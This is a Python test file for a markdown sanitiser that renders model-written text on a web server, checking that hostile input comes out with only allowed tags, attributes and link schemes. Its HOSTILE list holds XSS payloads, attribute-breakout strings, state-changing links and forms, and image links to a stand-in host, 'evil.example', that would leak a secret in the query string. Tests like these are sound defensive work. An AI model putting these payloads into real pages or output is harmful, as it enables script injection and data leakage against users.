"""Markdown of a model's can do nothing."""

from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markupsafe import Markup

from freeplay_like.server.pages.markdown import LIMIT_CHARACTERS, markdown

_TAGS = re.compile(r"<\s*/?\s*([a-zA-Z][^\s/>]*)")
_ALLOWED = set("a blockquote br code em h4 h5 h6 hr li ol p pre s strong table tbody td th thead tr ul".split())  # noqa: SIM905  shorter

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt&#58;alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox(1))",
    "![x](https://evil.example/?q=secret)",
    "![x][r]\n\n[r]: https://evil.example/a.png",
    "[x](//evil.example)",
    "[delete](/projects/1/settings/delete)",
    "<a href='https://a.example' onclick='alert(1)'>x</a>",
    "<iframe src=https://evil.example></iframe>",
    '<https://a.example/"onmouseover=alert(1)>',
    '[x](https://a.example "t\\" onmouseover=\\"alert(1)")',
    "```\n</code></pre><script>alert(1)</script>\n```",
    "<form action=/sign-out method=post><button hx-post=/x>go</button></form>",
    "<div hx-get=/projects data-x=1>x</div>",
]


def check(html: str) -> None:
    assert set(_TAGS.findall(html)) <= _ALLOWED
    for tag in re.findall(r"<[a-zA-Z][^>]*>", html):
        names = {name.lower() for name in re.findall(r"\s([^\s=\"'>]+)=\"", tag)}
        assert names <= {"href", "title", "rel", "start"}, tag
        for address in re.findall(r'href="([^"]*)"', tag):
            assert address.lower().startswith(("http:", "https:", "mailto:"))
            assert 'rel="noopener noreferrer nofollow"' in tag


@pytest.mark.parametrize("payload", HOSTILE)
def test_a_hostile_text_becomes_harmless(payload: str) -> None:
    html = markdown(payload)
    assert html is not None
    check(html)


@given(
    st.lists(st.sampled_from([*HOSTILE, "<", ">", '"', "`", "\n", "(", "]", "![", "&#", "\ud800", "\0"])).map("".join)
)
def test_any_mixture_becomes_harmless(text: str) -> None:
    html = markdown(text)
    assert html is not None
    check(html)


def test_a_link_says_where_it_leads_and_no_image_is_left() -> None:
    html = markdown("[our page](https://a.example/x) and ![a picture](https://b.example/y.png)")
    assert html is not None
    assert '<a href="https://a.example/x" rel="noopener noreferrer nofollow">our page</a>' in html
    assert "<img" not in html


def test_headings_lie_below_those_of_the_page() -> None:
    assert markdown("# one\n## two\n### three\n#### four") == (
        "<h4>one</h4>\n<h5>two</h5>\n<h6>three</h6>\n<h6>four</h6>\n"
    )


def test_lists_tables_and_code_are_laid_out() -> None:
    html = markdown("- a\n- **b**\n\n| x |\n|---|\n| 1 |\n\n`c`")
    assert isinstance(html, Markup)
    for part in ("<li>a</li>", "<strong>b</strong>", "<td>1</td>", "<code>c</code>"):
        assert part in html


def test_a_text_that_is_too_long_stays_as_it_came() -> None:
    assert markdown("x" * (LIMIT_CHARACTERS + 1)) is None


@pytest.mark.parametrize("text", ["[" * 20_000, "> " * 5_000, "*" * 20_000, "- " * 5_000, "`" * 20_000 + "a"])
def test_deep_nesting_is_read_all_the_same(text: str) -> None:
    assert markdown(text) is not None
